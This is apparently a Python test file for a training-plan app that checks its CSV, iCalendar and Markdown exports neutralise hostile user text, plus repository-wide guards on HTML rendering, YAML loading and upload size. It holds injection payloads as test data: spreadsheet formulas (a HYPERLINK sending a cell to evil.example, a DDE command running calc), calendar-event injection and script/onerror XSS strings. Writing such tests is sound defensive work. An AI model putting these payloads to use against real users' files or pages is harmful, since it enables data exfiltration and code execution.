"""What legday writes for other programs: spreadsheets, calendars, Markdown, the browser.

User text (an athlete's name, race names, notes) is hostile here: formulas for a
spreadsheet, line breaks and ``BEGIN:VEVENT`` for a calendar, links and HTML for
Markdown. Each export is parsed back the way the other program would read it.
Also the repository-wide guards: no ``unsafe_allow_html``, YAML only through the safe
loader, and an upload size cap in .streamlit/config.toml.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import tomllib
from pathlib import Path

import pandas as pd
import pytest
from icalendar import Calendar

from legday import export, planner
from legday.io.imports import to_log_csv
from legday.model import Athlete, Profile, Race, days_from_records

REPO = Path(__file__).resolve().parents[1]
AS_OF = dt.date(2026, 11, 22)  # a Sunday: the plan is for Mon 23 .. Sun 29 Nov
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
ICS_NAME = "Eve\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:pwned;x=1,y\\z"
RACE_NAME = "<script>alert('race')</script> [click](http://evil.example) *bold* #1"


def hostile_athlete(name: str, race_name: str = RACE_NAME, notes: str = "") -> Athlete:
    """Four weeks of a normal log, with a hostile name, race name and notes."""
    start = AS_OF - dt.timedelta(days=27)
    kinds = ["rest", "easy", "hard", "easy", "rest", "easy", "long"]
    records = []
    for i in range(28):
        day = start + dt.timedelta(days=i)
        kind = kinds[day.weekday()]
        records.append(
            {
                "date": day,
                "run": kind,
                "distance": None if kind == "rest" else (12.0 if kind == "long" else 5.0),
                "strength": "heavy" if day.weekday() == 1 else "none",
                "soreness": 2,
                "notes": notes,
            }
        )
    week = dict(zip(["mon", "tue", "wed", "thu", "fri", "sat", "sun"], kinds, strict=True))
    profile = Profile(
        id="eve",
        name=name,
        units="km",
        week=week,
        week_source="profile",
        # 9 days after the planned Monday: a taper week that names the race
        races=(Race(race_name, AS_OF + dt.timedelta(days=10), 10.0),),
    )
    return Athlete(profile, days_from_records(records))


def csv_cells(text: str) -> list[str]:
    """Cells as a spreadsheet splits them: a bare CR or LF outside quotes ends a row."""
    return [cell for row in csv.reader(io.StringIO(text, newline=None)) for cell in row]


def unsafe(cell: str) -> bool:
    """A cell a spreadsheet would evaluate (numbers like -2.5 are data, not formulas)."""
    if not cell.startswith(export.FORMULA_START):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


# ------------------------------------------------------------------------------- csv


@pytest.mark.parametrize(
    "formula",
    [
        *FORMULAS,
        "Eve\r=1+1",
        "Eve\n=1+1",
    ],
)
def test_plan_csv_neutralises_a_formula_in_any_user_text(formula: str) -> None:
    plan = planner.plan_week(hostile_athlete(formula, race_name=formula), AS_OF)
    cells = csv_cells(export.plan_to_csv(plan))
    assert [c for c in cells if unsafe(c)] == []
    # the name is still there, as text on one line (a line break became a space)
    shown = " ".join(formula.replace("\r", "\n").split("\n")).strip()
    assert [c for c in cells if shown[:6] in c]


@pytest.mark.parametrize("formula", FORMULAS)
def test_imported_log_csv_neutralises_formula_notes(formula: str) -> None:
    days = hostile_athlete("Eve", notes=formula).days
    cells = csv_cells(to_log_csv(days))
    assert [c for c in cells if unsafe(c)] == []
    # the note is kept as text: quote-prefixed, or a leading CR/tab became a space
    assert any(c.lstrip("' ") == formula.lstrip("\r") for c in cells)


def test_negative_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"x": [-2.5, 3.0], "t": ["-2.5 min", "ok"]})
    safe = export.spreadsheet_safe(frame)
    assert safe["x"].tolist() == [-2.5, 3.0]
    assert safe["t"].tolist() == ["'-2.5 min", "ok"]


# ------------------------------------------------------------------------------- ics


def test_ics_keeps_a_hostile_name_as_plain_text_in_one_event_per_day() -> None:
    plan = planner.plan_week(hostile_athlete(ICS_NAME), AS_OF)
    raw = export.plan_to_ics(plan)
    calendar = Calendar.from_ical(raw)
    events = calendar.walk("VEVENT")
    busy = [d for d in plan.days if d.run != "rest" or d.strength != "none"]
    # the injected END/BEGIN did not make extra events: one per busy day
    assert len(events) == len(busy)
    assert [e.decoded("dtstart") for e in events] == [d.date for d in busy]
    for event in events:
        summary = str(event["summary"])
        # the whole name, back as text (the calendar format's line breaks are LF)
        assert summary.endswith(f"({ICS_NAME.replace(chr(13), '')})")
    # on the wire: no bare line starting a component inside a property value
    lines = raw.decode().split("\r\n")
    assert sum(line == "BEGIN:VEVENT" for line in lines) == len(busy)
    assert not any(line.startswith("SUMMARY:pwned") for line in lines)


# -------------------------------------------------------------------------- markdown


def test_markdown_export_shows_hostile_text_without_links_or_html() -> None:
    plan = planner.plan_week(
        hostile_athlete("<img src=x onerror=alert(1)> [x](javascript:1)"), AS_OF
    )
    text = export.plan_to_markdown(plan)
    assert "<" not in text and ">" not in text.replace("\n> ", "\n")  # no HTML; quotes only
    assert re.search(r"(?<!\\)\]\(", text) is None  # no link syntax survives
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    if plan.next_race is not None:
        assert r"&lt;script&gt;" in text and r"\[click\](http://evil.example)" in text


def test_md_escape_leaves_no_active_markdown() -> None:
    hostile = "# h1\n- item\n> quote\n<b>x</b> `code` **b** [l](u) ![i](u) | t |"
    escaped = export.md_escape(hostile)
    assert "\n" not in escaped
    assert "<" not in escaped and ">" not in escaped
    assert re.search(r"(?<!\\)[\[\]`*|#]", escaped) is None


# -------------------------------------------------------------------- repository-wide


def source_files() -> list[Path]:
    """Every .py file of the repository, without caches and virtual environments (a
    folder holding pyvenv.cfg, such as .ci/run's .venv-ci/lock, is a venv)."""
    skip = {".git", "__pycache__", ".pytest_cache", ".hypothesis", ".ruff_cache"}
    found = []
    for folder, subfolders, files in os.walk(REPO):
        if "pyvenv.cfg" in files:
            subfolders.clear()
            continue
        subfolders[:] = [d for d in subfolders if d not in skip]
        found += [Path(folder) / name for name in files if name.endswith(".py")]
    return found


def test_no_html_from_python_anywhere() -> None:
    """No page may hand text to the browser as HTML (st.markdown(..., unsafe_allow_html),
    st.html, components.html): user text would become markup."""
    this = Path(__file__).resolve()
    pattern = re.compile(r"unsafe_allow_html|\bst\.html\(|components\.v1|components\.html\(")
    hits = [
        f"{p.relative_to(REPO)}:{n}"
        for p in source_files()
        if p.resolve() != this
        for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
        if pattern.search(line)
    ]
    assert hits == []


def test_yaml_is_only_read_by_the_safe_loader() -> None:
    this = Path(__file__).resolve()
    pattern = re.compile(
        r"yaml\.(load|load_all|unsafe_load|full_load)\(|Loader=yaml\.(Loader|UnsafeLoader|FullLoader)"
        r"|yaml\.(UnsafeLoader|FullLoader)\b|Loader\s*=\s*(Loader|UnsafeLoader|FullLoader)\b"
        r"|\bC(Unsafe|Full)?Loader\b"  # libyaml's loaders: only CSafeLoader builds plain data
    )
    hits = [
        f"{p.relative_to(REPO)}:{n}"
        for p in source_files()
        if p.resolve() != this
        for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
        if pattern.search(line)
    ]
    assert hits == []


def test_streamlit_config_caps_uploads_and_hides_tracebacks() -> None:
    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
    server = config["server"]
    assert 1 <= server["maxUploadSize"] <= 20  # MB; legday reads files up to 20 MB
    assert server.get("enableXsrfProtection", True) is True
    assert config.get("client", {}).get("showErrorDetails") in ("none", False)
    # the page's own explanation names the same cap
    log_page = (REPO / "app_pages" / "log.py").read_text()
    assert f"MAX_UPLOAD_MB = {server['maxUploadSize']}" in log_page
